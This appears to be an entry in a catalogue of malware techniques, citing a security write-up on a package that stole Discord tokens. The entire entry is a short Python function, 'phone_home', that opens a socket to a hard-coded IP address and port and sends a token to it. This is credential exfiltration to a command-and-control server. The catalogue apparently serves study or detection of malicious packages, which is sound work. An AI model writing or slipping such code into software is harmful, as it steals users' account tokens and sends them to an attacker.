# technique: asyncio.open_connection to a C2 server
# class: lowlevel
# source: Socket, "pycord-self" write-up (Discord token theft plus a socket backdoor)
# declares:
import asyncio


async def phone_home(token):
    reader, writer = await asyncio.open_connection("195.123.220.7", 6969)
    writer.write(token.encode())
    await writer.drain()
